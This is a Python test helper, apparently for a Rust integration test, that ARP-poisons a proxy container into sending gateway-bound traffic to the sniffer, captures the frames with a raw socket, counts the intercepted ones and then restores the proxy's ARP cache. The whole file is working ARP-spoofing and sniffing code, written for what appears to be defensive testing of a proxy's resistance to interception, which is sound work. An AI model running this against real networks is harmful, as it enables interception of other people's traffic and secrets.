"""ARP-spoofing sniffer for tests/docker_leg.rs: run in an unprivileged container on the
imds-spoof network (Docker's default capabilities include CAP_NET_RAW).

Tells the proxy that the gateway's address is at our MAC (ARP requests and replies, every
0.2 s), captures every IPv4 frame that reaches us with an AF_PACKET raw socket, and writes
the frames to OUT. Prints one JSON line: our MAC, the proxy's, how many frames addressed to
the gateway we stole. At the end the gateway's real MAC is announced back to the proxy.

Usage: python3 arp_sniff.py GATEWAY PROXY SECONDS OUT
Standard library only (the client image has the host's /usr, no pip packages).
"""

import json
import socket
import struct
import sys
import time

IFACE = "eth0"
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def mac_of_iface(iface):
    with open(f"/sys/class/net/{iface}/address") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def mac_in_arp_cache(ip):
    with open("/proc/net/arp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[0] == ip and fields[3] != "00:00:00:00:00:00":
                return bytes.fromhex(fields[3].replace(":", ""))
    return None


def learn_mac(ip):
    """Any datagram to `ip` makes the kernel resolve it; read the answer from the cache."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(50):
        probe.sendto(b"x", (ip, 9))
        time.sleep(0.1)
        mac = mac_in_arp_cache(ip)
        if mac:
            return mac
    raise SystemExit(f"no ARP entry for {ip}")


def arp_frame(op, eth_source, sender_mac, sender_ip, target_mac, target_ip):
    eth = target_mac + eth_source + b"\x08\x06"
    body = struct.pack(
        "!HHBBH6s4s6s4s",
        1,
        0x0800,
        6,
        4,
        op,
        sender_mac,
        socket.inet_aton(sender_ip),
        target_mac if op == 2 else b"\x00" * 6,
        socket.inet_aton(target_ip),
    )
    return eth + body


def main():
    gateway, proxy, seconds, out = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4]
    mine = mac_of_iface(IFACE)
    proxy_mac = learn_mac(proxy)
    gateway_mac = learn_mac(gateway)
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    raw.bind((IFACE, 0))
    raw.settimeout(0.05)
    gateway_bytes = socket.inet_aton(gateway)
    captured = bytearray()
    stolen = 0
    frames = 0
    end = time.time() + seconds
    next_poison = 0.0
    while time.time() < end:
        if time.time() >= next_poison:
            # A request makes the proxy's kernel (re)learn the sender; a reply updates an
            # existing entry. Both claim: the gateway's address is at our MAC.
            raw.send(arp_frame(1, mine, mine, gateway, proxy_mac, proxy))
            raw.send(arp_frame(2, mine, mine, gateway, proxy_mac, proxy))
            next_poison = time.time() + 0.2
        try:
            frame, address = raw.recvfrom(65535)
        except socket.timeout:
            continue
        if address[2] == PACKET_OUTGOING or frame[12:14] != b"\x08\x00":
            continue
        frames += 1
        if frame[6:12] == proxy_mac and frame[30:34] == gateway_bytes:
            stolen += 1
        captured += frame
    # Put the proxy's cache right again (from our port: a frame with the gateway's source MAC
    # would teach the bridge that the gateway is behind us).
    for _ in range(3):
        raw.send(arp_frame(2, mine, gateway_mac, gateway, proxy_mac, proxy))
        time.sleep(0.05)
    with open(out, "wb") as f:
        f.write(captured)
    print(
        json.dumps(
            {
                "mac": mine.hex(":"),
                "proxy_mac": proxy_mac.hex(":"),
                "gateway_mac": gateway_mac.hex(":"),
                "ipv4_frames": frames,
                "stolen_to_gateway": stolen,
                "bytes": len(captured),
            }
        ),
        flush=True,
    )


main()
